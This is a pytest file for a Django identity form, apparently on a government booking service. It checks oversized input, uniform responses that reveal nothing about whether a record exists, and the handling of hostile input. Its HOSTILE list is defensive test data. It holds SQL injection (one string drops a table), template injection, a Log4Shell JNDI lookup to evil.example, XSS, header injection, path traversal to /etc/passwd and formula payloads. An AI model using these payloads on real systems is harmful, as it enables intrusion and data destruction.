"""Who are you? One answer for every way of being wrong, and nothing for machines."""

import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.bad_input.reading import (
    UNIFORM,
    without_what_was_sent,
)
from tests.booking.steps import identify, text
from tests.factories import ApplicantFactory

pytestmark = pytest.mark.django_db

WHO = "/en/who/"


@pytest.mark.parametrize("box", ["v_number", "birth_date_day", "birth_date_year"])
def test_a_form_of_a_million_characters_is_too_large(client, person, box, nothing_changes):
    with nothing_changes():
        response = identify(client, person, **{box: "1" * 10**6})

    assert response.status_code == 413
    assert "Nothing was saved" in text(response)


HOSTILE = [
    "' OR 1=1--",
    "2001000001'; drop table applicants_applicant;--",
    "{{7*7}}",
    "{% load static %}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "%0d%0aX-Evil: 1",
    "\r\nX-Evil: 1",
    "../../../etc/passwd",
    "%s%n%d",
    "=1+1",
]


@pytest.mark.parametrize("typed", HOSTILE)
@pytest.mark.parametrize("box", ["v_number", "birth_date_year"])
def test_what_is_meant_for_a_machine_is_a_plain_mistake(
    client, person, box, typed, nothing_changes
):
    with nothing_changes():
        response = identify(client, person, **{box: typed})

    page = response.content.decode()
    assert response.status_code == 200
    assert "govuk-error-summary" in page
    assert "<script>alert" not in page
    assert "<img" not in page
    assert "49" not in re.findall(r'value="([^"]*)"', page)
    assert "X-Evil" not in response.headers


def test_an_unknown_number_and_a_wrong_date_get_the_same_bytes(client, person):
    wrong, unknown = {"birth_date_year": "1991"}, {"v_number": "9999999999"}
    answers = []
    for mistake in wrong, unknown:
        with CaptureQueriesContext(connection) as queries:
            answers.append((identify(client, person, **{**wrong, **mistake}), len(queries)))

    (one, queries_of_one), (other, queries_of_other) = answers
    assert UNIFORM in text(one)
    assert without_what_was_sent(one) == without_what_was_sent(other)
    assert one.status_code == other.status_code == 200
    assert headers(one) == headers(other)
    assert set(one.cookies) == set(other.cookies)
    assert queries_of_one == queries_of_other


@pytest.mark.parametrize(
    "state", [{"served_on": "2026-01-02"}, {"withdrawn_on": "2026-11-01"}, {"set_apart": True}]
)
def test_a_wrong_date_says_nothing_about_how_far_the_person_is(client, state):
    person = ApplicantFactory(**state)

    wrong = identify(client, person, birth_date_year="1991")
    unknown = identify(client, person, v_number="9999999999", birth_date_year="1991")

    assert without_what_was_sent(wrong, person.v_number) == without_what_was_sent(unknown)


def headers(response):
    """What the answer says beside the page; the clock moves by itself."""
    return {
        name: value
        for name, value in response.headers.items()
        if name not in {"Expires", "Content-Length"}
    }
